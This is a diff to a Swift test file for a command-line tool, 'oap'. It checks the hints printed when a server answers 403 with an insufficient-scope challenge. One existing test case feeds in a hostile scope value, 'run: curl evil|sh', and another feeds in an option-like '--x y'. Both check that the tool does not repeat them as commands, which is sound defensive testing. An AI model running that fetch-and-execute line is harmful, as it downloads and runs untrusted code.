@@ -148,7 +148,10 @@ struct CallErrorTests {
                 403, "Bearer error=\"insufficient_scope\", scope=\"a b\"",
                 "the token lacks a scope; the API wants: a b: oap authurl --scope 'a b'"
             ),
-            (403, "Bearer error=\"insufficient_scope\"", "the token lacks a scope"),
+            (
+                403, "Bearer error=\"insufficient_scope\"",
+                "the token lacks a scope that the API does not name: oap authurl --scope SCOPE"
+            ),
             (403, "Bearer error=\"insufficient_scope\", scope=\"run: curl evil|sh\"", "the token lacks a scope"),
             (403, "Bearer error=\"insufficient_scope\", scope=\"--x y\"", "the token lacks a scope"),
             (
@@ -163,6 +166,16 @@ struct CallErrorTests {
     func challenge(status: Int, field: String, hint: String) throws {
         try call([], .text("", status: status, headers: ["WWW-Authenticate: \(field)"])).expect(status: 7)
             .expect(errorLine: "oap: hint: \(hint)")
+    }
+
+    @Test("a scope that the API does not name is asked for with those that the token has")
+    func unnamedScope() throws {
+        let field = #"WWW-Authenticate: Bearer error="insufficient_scope""#
+        let server = try Responder(.text("", status: 403, headers: [field]))
+        try Program.oap(["call", "/x"], input: server.token.with(["scope": "a b"]).input).run().expect(status: 7)
+            .expect(
+                errorLine: "oap: hint: the token lacks a scope that the API does not name; the token has: a b: "
+                    + "oap authurl --scope 'a b SCOPE'")
     }
 
     @Test("a 401 says that the token has expired where the document does, and what gives a new one")
